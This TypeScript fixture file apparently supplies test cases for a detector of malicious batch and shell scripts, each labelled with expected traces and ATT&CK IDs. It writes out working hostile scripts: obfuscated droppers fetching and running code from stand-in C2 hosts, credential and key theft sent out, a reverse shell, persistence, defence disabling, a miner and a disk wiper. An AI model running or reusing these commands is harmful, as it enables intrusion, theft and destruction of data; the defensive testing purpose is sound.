// Batch files and scripts of Unix shells: droppers, thieves, miners, wipers.
import type { HarmfulScript } from './script-case.ts'

const C2 = 'http://c2.example/'
const base64 = (text: string): string => Buffer.from(text).toString('base64')
const hex = (text: string): string =>
  [...text].map((char) => `\\x${char.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')

/** Each letter cut out of one shuffled variable, as batch obfuscators do. */
function cutLetters(line: string): string {
  const alphabet = [...new Set(line)]
    .filter((char) => /[A-Za-z0-9:/._\\ -]/.test(char))
    .sort((a, b) => ((a.charCodeAt(0) * 7) % 31) - ((b.charCodeAt(0) * 7) % 31))
  const name = 'zQw'
  const cut = [...line]
    .map((char) => (alphabet.includes(char) ? `%${name}:~${alphabet.indexOf(char)},1%` : char))
    .join('')
  return `@echo off\r\nset ${name}=${alphabet.join('')}\r\n${cut}\r\n`
}
const careted = (line: string): string =>
  [...line].map((char, at) => (/[a-z]/i.test(char) && at % 2 === 0 ? `^${char}` : char)).join('')

export const harmfulBatch: readonly HarmfulScript[] = [
  {
    name: 'a script for FTP, and what it fetched started if it came',
    file: 'ftp.bat',
    source:
      '@echo off\r\nset f=%TEMP%\\l%RANDOM%.txt\r\n>%f% echo open c2.example 2121\r\n>>%f% echo user anonymous a@\r\n>>%f% echo get upd.scr\r\n>>%f% echo bye\r\nftp -n -v -s:%f%\r\ndel %f%\r\nif exist upd.scr start "" upd.scr\r\n',
    ids: ['trace_downloads_and_runs'],
    urls: ['ftp://c2.example:2121/upd.scr'],
    files: ['upd.scr'],
  },
  {
    name: 'what curl fetched is started where it came',
    file: 'exist.cmd',
    source: `curl -s -o %TEMP%\\w.exe ${C2}w.exe\r\nif exist %TEMP%\\w.exe start /b %TEMP%\\w.exe\r\n`,
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}w.exe`],
    files: ['w.exe'],
  },
  {
    name: 'certutil and start, letters cut out of a variable',
    file: 'cut.bat',
    source: `${cutLetters(`certutil -urlcache -split -f ${C2}b.exe C:\\Users\\Public\\b.exe`)}start /b C:\\Users\\Public\\b.exe`,
    ids: ['trace_abuses_system_tool', 'trace_downloads_and_runs'],
    urls: [`${C2}b.exe`],
    files: ['public\\b.exe'],
    commands: ['certutil -urlcache'],
  },
  {
    name: 'powershell between carets, delayed expansion',
    file: 'caret.cmd',
    source: `@echo off\r\nsetlocal EnableDelayedExpansion\r\nset "a=IEX(New-Object Net.WebClient)"\r\nset "b=.DownloadString('${C2}c.ps1')"\r\n${careted('powershell -nop -w hidden -c')} "!a!!b!"\r\n`,
    ids: ['trace_hides_powershell', 'trace_downloads_and_runs'],
    urls: [`${C2}c.ps1`],
  },
  {
    name: 'a command out of the output of another',
    file: 'forf.bat',
    source: `@echo off\r\nfor /f "tokens=*" %%i in ('echo mshta ${C2}f.hta') do %%i\r\nfor %%x in (bitsadmin) do %%x /transfer j /download /priority high ${C2}f.exe %TEMP%\\f.exe\r\nstart "" "%TEMP%\\f.exe"\r\n`,
    ids: ['trace_abuses_system_tool'],
    commands: [`mshta ${C2}f.hta`, 'bitsadmin /transfer'],
  },
  {
    name: 'replacement of marks in a variable',
    file: 'repl.bat',
    source: `@echo off\r\nset v=cuQrl -o %%TEMP%%\\r.exe ${C2}r.exe\r\nset v=%v:Q=%\r\ncall %v%\r\ncall %TEMP%\\r.exe\r\n`,
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}r.exe`],
    commands: ['curl -o'],
  },
  {
    name: 'a loop over letters of a string',
    file: 'goto.bat',
    source: `@echo off\r\nset c=\r\nfor %%l in (m s h t a) do call set c=%%c%%%%l\r\n%c% ${C2}g.hta\r\n`,
    ids: ['trace_abuses_system_tool'],
    commands: [`mshta ${C2}g.hta`],
  },
  {
    name: 'a VBScript written line by line and run',
    file: 'echo.bat',
    source: `@echo off\r\n(\r\necho Set h = CreateObject("MSXML2.XMLHTTP"^)\r\necho h.Open "GET", "${C2}e.exe", False : h.Send\r\necho Set s = CreateObject("ADODB.Stream"^) : s.Type = 1 : s.Open : s.Write h.responseBody : s.SaveToFile "C:\\ProgramData\\e.exe", 2\r\necho CreateObject("WScript.Shell"^).Run "C:\\ProgramData\\e.exe", 0\r\n) > %TEMP%\\e.vbs\r\ncscript //nologo %TEMP%\\e.vbs\r\ndel %TEMP%\\e.vbs\r\n`,
    ids: ['trace_runs_dropped_program', 'trace_downloads_and_runs'],
    urls: [`${C2}e.exe`],
    files: ['\\temp\\e.vbs', 'programdata\\e.exe'],
    commands: ['cscript //nologo'],
  },
  {
    name: 'a program between certificate marks, decoded and run',
    file: 'cert.bat',
    source: `@echo off\r\ncertutil -decode "%~f0" "%TEMP%\\p.exe" >nul\r\nstart "" "%TEMP%\\p.exe"\r\nexit /b\r\n-----BEGIN CERTIFICATE-----\r\n${base64(`MZ${'\0'.repeat(120)}harmless`)}\r\n-----END CERTIFICATE-----\r\n`,
    ids: ['trace_abuses_system_tool', 'trace_runs_dropped_program'],
    files: ['\\temp\\p.exe'],
    commands: ['p.exe'],
  },
  {
    name: 'lines of itself written to a second batch file and called',
    file: 'lines.bat',
    source: `@echo off\r\nfindstr /b "mshta" "%~f0" > next.bat\r\ncall next.bat\r\nexit /b\r\nmshta ${C2}next.hta\r\n`,
    ids: ['trace_runs_dropped_program', 'trace_abuses_system_tool'],
    files: ['next.bat'],
    commands: [`mshta ${C2}next.hta`],
  },
  {
    name: 'a batch file that a client prints into another, and called',
    file: 'printed.bat',
    source: `@echo off\r\ncd /d %TEMP%\r\ncurl -s ${C2}printed.bat > printed2.bat\r\ncall printed2.bat\r\n`,
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}printed.bat`],
    files: ['printed2.bat'],
  },
  {
    name: 'a batch file that PowerShell prints, and called',
    file: 'unseen.bat',
    label: 'suspicious',
    source: `@echo off\r\npowershell -w hidden -nop -c "[Text.Encoding]::ASCII.GetString([IO.File]::ReadAllBytes('%~f0')[900..1200])" > %TEMP%\\unseen2.bat\r\ncall %TEMP%\\unseen2.bat\r\n`,
    ids: ['trace_hides_powershell', 'trace_runs_dropped_program'],
    files: ['unseen2.bat'],
  },
  {
    name: 'a batch file that Python prints from code on its command line, and called',
    file: 'inline.bat',
    label: 'suspicious',
    source: `@echo off\r\npython -c "import base64;print(base64.b64decode('${base64(`mshta ${C2}inline.hta`)}').decode())" > %TEMP%\\inline2.bat\r\ncall %TEMP%\\inline2.bat\r\n`,
    ids: ['trace_runs_dropped_program'],
    files: ['inline2.bat'],
  },
  {
    name: 'itself read by PowerShell',
    file: 'self.bat',
    source: `@echo off\r\npowershell -w hidden -nop -c "$l=[IO.File]::ReadAllLines('%~f0')[-1];iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($l.Substring(2))))"\r\nexit /b\r\n::${base64(`IEX (New-Object Net.WebClient).DownloadString('${C2}self.ps1')`)}`,
    ids: ['trace_hides_powershell', 'trace_downloads_and_runs'],
    urls: [`${C2}self.ps1`],
  },
  {
    name: 'defences off, backups away, a task and a Run key',
    file: 'ransom.bat',
    source: `@echo off\r\nreg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f\r\nnetsh advfirewall set allprofiles state off\r\nvssadmin delete shadows /all /quiet\r\nwbadmin delete catalog -quiet\r\nschtasks /create /tn "Upd" /tr "C:\\ProgramData\\u.exe" /sc onlogon /ru system /f\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Upd /d C:\\ProgramData\\u.exe /f\r\nfor /F "tokens=*" %%1 in ('wevtutil.exe el') DO wevtutil.exe cl "%%1"\r\ndel "%~f0"\r\n`,
    ids: [
      'trace_weakens_defences',
      'trace_destroys_recovery',
      'trace_schedules_task',
      'trace_sets_run_key',
      'trace_clears_event_logs',
      'trace_deletes_itself',
    ],
    attack: ['T1562.001', 'T1562.004', 'T1490', 'T1053.005', 'T1070.001'],
    registry: ['\\run\\upd'],
  },
  {
    name: 'passwords gathered and sent by mail of the shell',
    file: 'steal.bat',
    source: `@echo off\r\nwhoami /all > %TEMP%\\i.txt\r\nsysteminfo >> %TEMP%\\i.txt\r\nnetsh wlan show profile name=* key=clear >> %TEMP%\\i.txt\r\ncopy "%LOCALAPPDATA%\\Google\\Chrome\\User Data\\Default\\Login Data" %TEMP%\\l.db\r\ncurl -s -F file=@%TEMP%\\l.db https://api.telegram.org/bot1:A/sendDocument?chat_id=1\r\n`,
    ids: ['trace_reads_stored_secrets', 'trace_talks_to_throwaway_host', 'trace_sends_data_out'],
    attack: ['T1555.003'],
    urls: ['https://api.telegram.org/bot1'],
  },
  {
    name: 'a shortcut of the installer that never was: msiexec from an address',
    file: 'msi.cmd',
    source: `@echo off\r\nstart "" /min msiexec /q /i ${C2}u.msi\r\nrundll32.exe C:\\ProgramData\\x.dll,Start\r\n`,
    ids: ['trace_abuses_system_tool'],
    attack: ['T1218.007'],
    label: 'suspicious',
  },
]

export const harmfulShell: readonly HarmfulScript[] = [
  {
    name: 'base64 into a shell',
    file: 'b64.sh',
    source: `#!/bin/sh\necho ${base64(`curl -fsSL ${C2}x.sh | bash`)} | base64 -d | sh\n`,
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}x.sh`],
  },
  {
    name: 'eval of printf and hexadecimal escapes',
    file: 'hex.sh',
    source: `#!/bin/bash\neval "$(printf '${hex(`wget -q ${C2}h -O /tmp/h; chmod +x /tmp/h; /tmp/h`)}')"\n`,
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}h`],
    files: ['/tmp/h'],
  },
  {
    name: 'variables joined, quotes inside words, IFS for blanks',
    file: 'ifs.sh',
    source: `#!/bin/bash\na=cu;b=rl\nu=${C2}\nc"u"r''l\${IFS}-s\${IFS}"\${u}i.sh"|b'a's"h"\n$a$b -s $u/j -o /tmp/.j && chmod 755 /tmp/.j && /tmp/.j &\n`,
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}i.sh`],
  },
  {
    name: 'a here-document that becomes a cron job and a service',
    file: 'here.sh',
    source: `#!/bin/bash\ncat > /etc/systemd/system/netd.service <<EOF\n[Service]\nExecStart=/usr/local/bin/.netd\nRestart=always\n[Install]\nWantedBy=multi-user.target\nEOF\ncurl -s ${C2}netd -o /usr/local/bin/.netd; chmod +x /usr/local/bin/.netd\nsystemctl enable --now netd\necho "*/5 * * * * root curl -s ${C2}c | bash" > /etc/cron.d/net\necho "ssh-rsa AAAA x@y" >> /root/.ssh/authorized_keys\n`,
    ids: ['trace_adds_systemd_unit', 'trace_adds_cron_job', 'trace_adds_ssh_key', 'trace_downloads_and_runs'],
    attack: ['T1543.002', 'T1053.003', 'T1098.004'],
    files: ['/etc/systemd/system/netd.service', '/etc/cron.d/net'],
  },
  {
    name: 'reversed and cut',
    file: 'rev.sh',
    source: `#!/bin/sh\necho '${[...`curl ${C2}r|sh`].reverse().join('')}' | rev | sh\n`,
    ids: ['trace_downloads_and_runs'],
    urls: [`${C2}r`],
  },
  {
    name: 'a miner after its rivals are stopped',
    file: 'mine.sh',
    source: `#!/bin/bash\npkill -9 kinsing; pkill -9 xmrig\nufw disable; iptables -F; setenforce 0\ncd /tmp; curl -sO http://203.0.113.7/xmrig.tar.gz; tar xzf xmrig.tar.gz; nohup ./xmrig -o stratum+tcp://pool.example:3333 -u 4A -p x >/dev/null 2>&1 &\nhistory -c\n`,
    ids: ['trace_mines_coins', 'trace_weakens_defences', 'trace_talks_to_throwaway_host'],
  },
  {
    name: 'reverse shell in three ways',
    file: 'rsh.sh',
    source: `#!/bin/bash\nexec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done\n`,
    ids: ['trace_opens_reverse_shell'],
  },
  {
    name: 'keys of clouds and shells gathered and sent',
    file: 'keys.sh',
    source: `#!/bin/sh\ntar czf /tmp/.k.tgz ~/.aws/credentials ~/.ssh/id_rsa ~/.kube/config /etc/shadow 2>/dev/null\ncurl -s -F "f=@/tmp/.k.tgz" ${C2}up\nrm -f /tmp/.k.tgz "$0"\n`,
    ids: ['trace_reads_stored_secrets', 'trace_sends_data_out', 'trace_deletes_itself'],
    attack: ['T1552.004', 'T1003.008'],
    urls: [`${C2}up`],
  },
  {
    name: 'a disk overwritten',
    file: 'wipe.sh',
    source: '#!/bin/sh\ndd if=/dev/zero of=/dev/sda bs=1M &\nrm -rf --no-preserve-root /\n',
    ids: ['trace_wipes_data'],
    attack: ['T1485', 'T1561.001'],
  },
]
